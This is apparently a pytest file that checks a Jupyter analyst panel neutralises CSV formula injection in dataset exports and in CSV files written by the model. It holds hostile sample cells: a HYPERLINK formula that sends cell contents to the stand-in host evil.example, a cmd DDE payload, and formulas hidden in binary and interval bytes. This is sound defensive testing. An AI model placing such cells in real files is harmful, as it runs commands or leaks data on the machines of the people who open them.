"""Formulas for whoever opens the model's rows in a spreadsheet: CSV injection through any type.

The panel downloads a dataset as CSV (``artifacts/{id}/content?format=csv``) and serves a
CSV file the model's code wrote under ``outputs/`` as it is. A cell a spreadsheet reads as a
formula (``=SUM(A1:Z99)``, ``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0``) runs where the user
opens the file. Before the fix only text columns were neutralised: the model's SQL made an
INTERVAL whose twelve bytes spell ``=SUM(A1:Z99)``, its code a Parquet with the formula in
fixed-size bytes (written raw), a UUID (the download failed), and a CSV file of formulas
(served verbatim). Now every column that is not a number is made text, then neutralised, and
a model-written CSV file is re-written the same way, its numbers as they were.
"""

from __future__ import annotations

import csv
import io
import json
import re
import struct

import pytest

from jupyter_analyst.events import parse_events
from jupyter_analyst.testing import ScriptedModelServer, python_step, sql_step, text_step
from jupyter_analyst.testing.servers.jupyter import analyst_server_config

from .conftest import sandboxed_root

pytestmark = sandboxed_root()

FORMULA = "=SUM(A1:Z99)"
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
# The interval whose Parquet bytes (months, days, milliseconds) are the formula's twelve.
MONTHS, DAYS, MILLIS = struct.unpack("<III", FORMULA.encode())
INTERVAL_SQL = (f"SELECT to_months({MONTHS}) + to_days({DAYS}) + to_microseconds({MILLIS * 1000}) AS spent, "
                "order_id FROM orders ORDER BY order_id LIMIT 2")
WRITE = f"""
import uuid
from pathlib import Path
import pyarrow as pa, pyarrow.parquet as pq
Path("outputs").mkdir(exist_ok=True)
formula = {FORMULA!r}.encode()
pq.write_table(pa.table({{
    "fixed": pa.array([formula, formula], pa.binary(12)),
    "raw": pa.array([{LINK!r}.encode(), b"+1+1"], pa.binary()),
    "id": pa.ExtensionArray.from_storage(pa.uuid(), pa.array([uuid.UUID(int=7).bytes] * 2, pa.binary(16))),
    "nested": pa.array([{{"cell": {LINK!r}}}, {{"cell": "@SUM(A1)"}}]),
    "names": pa.array([{FORMULA!r}, "-2+3"]).dictionary_encode(),
    "=cmd|' /C calc'!A0": pa.array([1, -2]),
}}), "outputs/rows.parquet")
Path("outputs/rows.csv").write_text(
    'name,amount,note\\n'
    '{FORMULA},-3.5,"a;=1+1"\\n'
    '"  @SUM(A1)",+4,"=cmd|\\' /C calc\\'!A0"\\n'
    '\\t=1+1,1e3,-\\n'
)
"""
SCRIPT = {"turns": [{"match": ".", "steps": [sql_step(INTERVAL_SQL, "spent"), python_step(WRITE), text_step("done")]}]}

#: What a spreadsheet runs: a formula character first, or after spaces and line breaks.
RUNS = re.compile(r"^(?:[\t\r\n\x00]|\s*[=+\-@|%＝＋－＠])")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


@pytest.fixture
def jp_server_config(tmp_path, sales_db):
    with ScriptedModelServer(SCRIPT) as server:
        yield analyst_server_config(tmp_path / "ws", {"sales": str(sales_db)}, server.base_url)


async def api(jp_fetch, *path, method="GET", body=None, **kw):
    if body is not None:
        kw["body"] = json.dumps(body)
    return await jp_fetch("analyst", "api", *path, method=method, **kw)


async def model_artifacts(jp_fetch) -> dict[str, dict]:
    """The artifacts of a turn whose model made the hostile dataset and files, by name."""
    thread = json.loads((await api(jp_fetch, "threads", method="POST", body={"source": "sales"})).body)
    tid = thread["thread_id"]
    turn = await api(jp_fetch, "threads", tid, "turns", method="POST", body={"prompt": "how much was spent"},
                     request_timeout=120)
    assert parse_events(turn.body.decode())[-1]["status"] == "completed"
    artifacts = json.loads((await api(jp_fetch, "threads", tid, "artifacts")).body)["artifacts"]
    return {a["name"]: a for a in artifacts}


def cells_that_run(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if RUNS.match(cell) and not NUMBER.fullmatch(cell)]


async def test_a_formula_in_any_column_type_is_text_in_the_datasets_csv(jp_fetch):
    by_name = await model_artifacts(jp_fetch)
    assert {"spent", "outputs/rows.parquet"} <= set(by_name)

    spent = await api(jp_fetch, "artifacts", by_name["spent"]["artifact_id"], "content", params={"format": "csv"})
    rows = list(csv.reader(io.StringIO(spent.body.decode("utf-8"))))
    assert rows[0] == ["spent", "order_id"]
    assert cells_that_run(rows) == []
    assert rows[1][0].startswith("P") and FORMULA not in spent.body.decode()  # an ISO 8601 interval

    response = await api(jp_fetch, "artifacts", by_name["outputs/rows.parquet"]["artifact_id"], "content",
                         params={"format": "csv"})
    assert response.code == 200  # the UUID column converts too
    rows = list(csv.reader(io.StringIO(response.body.decode("utf-8"))))
    assert cells_that_run(rows) == [], rows
    header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert header == ["fixed", "raw", "id", "nested", "names", "'=cmd|' /C calc'!A0"]
    assert first["fixed"] == FORMULA.encode().hex()
    assert first["id"] == "00000000-0000-0000-0000-000000000007"
    assert first["names"] == "'" + FORMULA
    assert [row[-1] for row in rows[1:]] == ["1", "-2"]  # numbers stay numbers


async def test_a_model_written_csv_file_is_served_with_no_cell_a_spreadsheet_runs(jp_fetch):
    by_name = await model_artifacts(jp_fetch)
    response = await api(jp_fetch, "artifacts", by_name["outputs/rows.csv"]["artifact_id"], "content")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = response.body.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert cells_that_run(rows) == [], rows
    assert rows == [
        ["name", "amount", "note"],
        ["'" + FORMULA, "-3.5", "a;=1+1"],
        ["'  @SUM(A1)", "+4", "'=cmd|' /C calc'!A0"],
        ["'\t=1+1", "1e3", "'-"],
    ]
    # Opened where ";" separates cells, "a;=1+1" stays one quoted cell.
    assert '"a;=1+1"' in text
